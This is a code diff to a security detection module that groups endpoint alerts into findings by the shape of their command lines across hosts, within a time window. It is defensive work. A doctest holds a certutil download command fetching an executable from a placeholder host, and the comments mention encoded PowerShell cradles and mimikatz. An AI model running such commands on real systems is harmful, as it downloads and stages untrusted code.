@@ -13,6 +13,13 @@ per act** seen on two hosts or more, listing the hosts:
   its own event, never grouped;
 * acts whose host sets overlap by half the smaller one or more are one finding (the seed campaign's
   stager and its LSASS read on the same 54 hosts are one case, as a fan-out cluster would make them);
+* hits of one rule left on one host each are one act when their **shapes** agree
+  (:func:`shape_key`: the rule, the parent's image path and the command line with its per-host parts
+  masked, :func:`analytics.command_shapes.command_shape`) on ``min_hosts`` hosts or more within
+  :data:`SHAPE_WINDOW_SECONDS`: a lure's ``powershell -enc`` cradle whose URL differs on each of 60 hosts
+  made 60 rows at risk 80 (red team T16), now one finding listing the 60 hosts, each hit (its own
+  command line) kept.  The same shape hours apart, from another parent or fetching from another server
+  is another act;
 * its risk is its worst rule's plus a point per doubling of its hosts, at most 4
   (:func:`analytics.host_findings.breadth_bonus`);
 * every other hit stays in its host's finding, as before: a host's own mimikatz beside the fleet's
@@ -23,14 +30,19 @@ from __future__ import annotations
 
 from collections.abc import Iterable
 
+from analytics.command_shapes import command_shape, image_shape
 from analytics.host_finding_carry import BUILD_RULES
 from analytics.host_finding_rules import LOG_CLEARED
 from analytics.host_findings import Hit, HostFinding, group_by_host, process_key
 
-__all__ = ["MIN_GROUP_HOSTS", "act_key", "group_findings"]
+__all__ = ["MIN_GROUP_HOSTS", "SHAPE_WINDOW_SECONDS", "act_key", "group_findings", "shape_key"]
 
 MIN_GROUP_HOSTS = 2
 """An act on this many hosts or more is one finding listing them; on one, the host's finding has it."""
+SHAPE_WINDOW_SECONDS = 3600.0
+"""Hits of one shape group when ``min_hosts`` hosts made them within this time: a campaign's lure runs in
+minutes to an hour (T16's in 10 minutes); an administrator's script, run at each user's logon over the day,
+does not fold into a lure of its shape run once in an hour (see :func:`group_findings`)."""
 
 
 def act_key(hit: Hit) -> tuple[str, str] | None:
@@ -49,7 +61,59 @@ def act_key(hit: Hit) -> tuple[str, str] | None:
     return (hit.rule, command or hit.subject)
 
 
-def group_findings(hits: Iterable[Hit], carried: Iterable[Hit] = ()) -> list[HostFinding]:
+def shape_key(hit: Hit) -> tuple[str, str] | None:
+    r"""What makes hits of one host each one act when their command lines differ: the rule, the parent's
+    image path and the command line's shape (module docstring); None for a hit never grouped, or without a
+    command line (nothing per host to mask: :func:`act_key` already compared it).
+
+    >>> shape_key(Hit("ws-1", "lolbin_download", 1.0, "e", "C:\\W\\certutil.exe",
+    ...               "certutil -urlcache -f http://cdn.example/a/Kq81zz0p.exe x.exe", "s", "d", "C:\\W\\cmd.exe"))
+    ('lolbin_download', 'shape:c:\\w\\cmd.exe|c:\\w\\certutil.exe|certutil -urlcache -f http://cdn.example/*.exe x.exe')
+    """
+    if hit.rule == LOG_CLEARED or not hit.command_line.strip():
+        return None
+    shape = command_shape(hit.command_line, hit.host, hit.image or None)
+    return (hit.rule, f"shape:{image_shape(hit.parent)}|{image_shape(hit.image)}|{shape}")
+
+
+def _shape_acts(acts: dict[tuple[str, str], list[Hit]], min_hosts: int) -> None:
+    """Move the hits of acts on fewer than ``min_hosts`` hosts into shape acts (:func:`shape_key`) where ``min_hosts``
+    hosts made one shape within :data:`SHAPE_WINDOW_SECONDS`; in place.  A shape's hits are walked in
+    time order: from the first, those within the window are one act when they hold ``min_hosts`` hosts,
+    else the first stays its host's and the walk goes on from the next (a slow spread is not folded)."""
+    by_shape: dict[tuple[str, str], list[Hit]] = {}
+    for of_act in acts.values():  # an exact act on fewer hosts than a shape needs may be a part of one
+        if len({h.host for h in of_act}) < max(min_hosts, MIN_GROUP_HOSTS):
+            for hit in of_act:
+                if (of_hit := shape_key(hit)) is not None:
+                    by_shape.setdefault(of_hit, []).append(hit)
+    moved: set[int] = set()
+    shaped: set[tuple[str, str]] = set()
+    for (rule, shape), of_shape in sorted(by_shape.items()):
+        of_shape.sort(key=lambda h: (h.ts, h.host, h.event_id))
+        first = 0
+        while first < len(of_shape):
+            last = first
+            while last + 1 < len(of_shape) and of_shape[last + 1].ts - of_shape[first].ts <= SHAPE_WINDOW_SECONDS:
+                last += 1
+            run = of_shape[first:last + 1]
+            if len({h.host for h in run}) >= max(min_hosts, MIN_GROUP_HOSTS):
+                key = (rule, f"{shape}|{int(run[0].ts)}")
+                while key in acts:  # a command line is attacker text: it may spell a shape's key
+                    key = (rule, key[1] + "'")
+                acts[key] = run
+                shaped.add(key)
+                moved.update(id(h) for h in run)
+                first = last + 1
+            else:
+                first += 1
+    for key in [k for k in acts if k not in shaped]:
+        acts[key] = [h for h in acts[key] if id(h) not in moved]
+        if not acts[key]:
+            del acts[key]
+
+
+def group_findings(hits: Iterable[Hit], carried: Iterable[Hit] = (), min_hosts: int = 3) -> list[HostFinding]:
     """One finding per act on :data:`MIN_GROUP_HOSTS` hosts or more (acts sharing most of their hosts
     merged), one per host for the other hits; worst first, then by (first) host name.
 
@@ -59,6 +123,9 @@ def group_findings(hits: Iterable[Hit], carried: Iterable[Hit] = ()) -> list[Hos
         The hits no fan-out cluster carries.
     carried : iterable of Hit
         Those it does: counted in the finding of their host (its own, else the first holding it).
+    min_hosts : int
+        The hosts one shape of command line needs within :data:`SHAPE_WINDOW_SECONDS` to be one act
+        (the detection's ``min_hosts``: as many as a fan-out cluster needs).
     """
     hits = list(hits)
     acts: dict[tuple[str, str], list[Hit]] = {}
@@ -66,6 +133,7 @@ def group_findings(hits: Iterable[Hit], carried: Iterable[Hit] = ()) -> list[Hos
         key = act_key(hit)
         if key is not None:
             acts.setdefault(key, []).append(hit)
+    _shape_acts(acts, min_hosts)
     shared = sorted(key for key, of_act in acts.items() if len({h.host for h in of_act}) >= MIN_GROUP_HOSTS)
     groups = [[key] for key in shared]
     hosts = [{h.host for h in acts[key]} for key in shared]
